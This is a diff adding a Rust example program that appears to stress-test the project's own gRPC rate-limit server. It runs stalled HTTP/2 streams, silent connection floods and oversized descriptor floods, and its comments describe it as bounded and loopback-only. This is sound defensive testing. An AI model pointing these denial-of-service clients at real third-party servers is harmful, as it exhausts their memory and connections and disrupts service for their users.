@@ -1,0 +1,236 @@
+//! Hostile clients, for trying a running server from outside (issue 10's findings): stalled
+//! streams, silent connections, descriptor floods. Bounded in count and time; loopback only.
+//!
+//! ```sh
+//! cargo run --release --example abuse -- stalled-streams --addr 127.0.0.1:8081 --streams 800
+//! cargo run --release --example abuse -- silent --addr 127.0.0.1:8081 --count 1300 --hold 60
+//! cargo run --release --example abuse -- descriptor-flood --addr 127.0.0.1:8081 --senders 16
+//! ```
+//! Watch the server's RSS and CPU meanwhile (`ps -o rss,pcpu -p PID`).
+
+use std::net::SocketAddr;
+use std::time::{Duration, Instant};
+
+use bytes::Bytes;
+use clap::{Parser, Subcommand};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tonic::codegen::http;
+
+const PATH: &str = "/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit";
+
+#[derive(Parser)]
+struct Args {
+    #[command(subcommand)]
+    attack: Attack,
+}
+
+#[derive(Subcommand)]
+enum Attack {
+    /// One HTTP/2 connection opening many calls, each announcing a large message and sending all
+    /// but its last bytes (at most --send bytes each), then holding them open.
+    StalledStreams {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 800)]
+        streams: usize,
+        #[arg(long, default_value_t = 4 << 20)]
+        declared: u32,
+        #[arg(long, default_value_t = 4 << 20)]
+        send: usize,
+        #[arg(long, default_value_t = 40)]
+        hold: u64,
+    },
+    /// Many connections that send nothing (or only the HTTP/2 preface), held open; reports how many
+    /// the server closed.
+    Silent {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 1300)]
+        count: usize,
+        #[arg(long)]
+        preface: bool,
+        #[arg(long, default_value_t = 60)]
+        hold: u64,
+    },
+    /// Concurrent calls of 2 million empty descriptors (a 4 MB message) each.
+    DescriptorFlood {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 16)]
+        senders: usize,
+        #[arg(long, default_value_t = 10)]
+        rounds: usize,
+    },
+}
+
+async fn stalled_streams(addr: SocketAddr, streams: usize, declared: u32, send: usize, hold: u64) {
+    let tcp = TcpStream::connect(addr).await.expect("connect");
+    let (client, connection) = h2::client::handshake(tcp).await.expect("h2 handshake");
+    tokio::spawn(connection);
+    let mut client = client.ready().await.expect("ready");
+    let mut held = Vec::new();
+    let mut answered = std::collections::BTreeMap::<String, usize>::new();
+    let chunk = Bytes::from(vec![0x0au8; 16 * 1024]);
+    for _ in 0..streams {
+        let request = http::Request::post(format!("http://localhost{PATH}"))
+            .header("content-type", "application/grpc")
+            .header("te", "trailers")
+            .body(())
+            .expect("request");
+        client = client.ready().await.expect("ready");
+        let (response, mut body) = client.send_request(request, false).expect("send");
+        let mut prefix = vec![0u8];
+        prefix.extend_from_slice(&declared.to_be_bytes());
+        let _ = body.send_data(Bytes::from(prefix), false);
+        let mut left = send.min(declared as usize).saturating_sub(1);
+        while left > 0 {
+            let n = left.min(chunk.len());
+            if body.send_data(chunk.slice(..n), false).is_err() {
+                break;
+            }
+            left -= n;
+        }
+        held.push(body);
+        let outcome = tokio::time::timeout(Duration::from_millis(2), response).await;
+        let key = match outcome {
+            Ok(Ok(r)) => format!(
+                "grpc-status {}",
+                r.headers()
+                    .get("grpc-status")
+                    .map_or("-".into(), |v| v.to_str().unwrap_or("?").to_string())
+            ),
+            Ok(Err(e)) => format!("reset: {e}"),
+            Err(_) => "no answer yet (stream held)".into(),
+        };
+        *answered.entry(key).or_default() += 1;
+    }
+    println!("{streams} streams opened: {answered:?}; holding for {hold} s");
+    tokio::time::sleep(Duration::from_secs(hold)).await;
+}
+
+async fn silent(addr: SocketAddr, count: usize, preface: bool, hold: u64) {
+    let mut connections = Vec::new();
+    for _ in 0..count {
+        match TcpStream::connect(addr).await {
+            Ok(mut c) => {
+                if preface {
+                    let _ = c.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await;
+                }
+                connections.push(c);
+            }
+            Err(e) => {
+                println!(
+                    "connect failed after {} connections: {e}",
+                    connections.len()
+                );
+                break;
+            }
+        }
+    }
+    let opened = connections.len();
+    let started = Instant::now();
+    let tasks: Vec<_> = connections
+        .into_iter()
+        .map(|mut c| {
+            tokio::spawn(async move {
+                let mut buf = [0u8; 1024];
+                loop {
+                    match c.read(&mut buf).await {
+                        Ok(0) | Err(_) => return Some(started.elapsed()),
+                        Ok(_) => {}
+                    }
+                }
+            })
+        })
+        .collect();
+    tokio::time::sleep(Duration::from_secs(hold)).await;
+    let mut closed = Vec::new();
+    for t in tasks {
+        if t.is_finished() {
+            if let Ok(Some(at)) = t.await {
+                closed.push(at);
+            }
+        } else {
+            t.abort();
+        }
+    }
+    closed.sort();
+    println!(
+        "{opened} connections opened; {} closed by the server within {hold} s (first after {:?}, last after {:?})",
+        closed.len(),
+        closed.first(),
+        closed.last()
+    );
+}
+
+async fn descriptor_flood(addr: SocketAddr, senders: usize, rounds: usize) {
+    let body = Bytes::from([0x12u8, 0x00].repeat(2_000_000));
+    let channel = tonic::transport::Endpoint::from_shared(format!("http://{addr}"))
+        .expect("endpoint")
+        .connect()
+        .await
+        .expect("connect");
+    let tasks: Vec<_> = (0..senders)
+        .map(|_| {
+            let (channel, body) = (channel.clone(), body.clone());
+            tokio::spawn(async move {
+                let mut codes = Vec::new();
+                for _ in 0..rounds {
+                    let mut grpc = tonic::client::Grpc::new(channel.clone())
+                        .max_encoding_message_size(usize::MAX);
+                    grpc.ready().await.expect("ready");
+                    let r = grpc
+                        .unary(
+                            tonic::Request::new(body.clone()),
+                            http::uri::PathAndQuery::from_static(PATH),
+                            RawCodec,
+                        )
+                        .await;
+                    codes.push(r.err().map_or(tonic::Code::Ok, |s| s.code()));
+                }
+                codes
+            })
+        })
+        .collect();
+    let started = Instant::now();
+    let mut codes = std::collections::BTreeMap::<String, usize>::new();
+    for t in tasks {
+        for c in t.await.expect("sender") {
+            *codes.entry(format!("{c:?}")).or_default() += 1;
+        }
+    }
+    println!(
+        "{} calls of 2,000,000 empty descriptors in {:?}: {codes:?}",
+        senders * rounds,
+        started.elapsed()
+    );
+}
+
+#[path = "load/codec.rs"]
+mod codec;
+use codec::RawCodec;
+
+#[tokio::main]
+async fn main() {
+    match Args::parse().attack {
+        Attack::StalledStreams {
+            addr,
+            streams,
+            declared,
+            send,
+            hold,
+        } => stalled_streams(addr, streams, declared, send, hold).await,
+        Attack::Silent {
+            addr,
+            count,
+            preface,
+            hold,
+        } => silent(addr, count, preface, hold).await,
+        Attack::DescriptorFlood {
+            addr,
+            senders,
+            rounds,
+        } => descriptor_flood(addr, senders, rounds).await,
+    }
+}
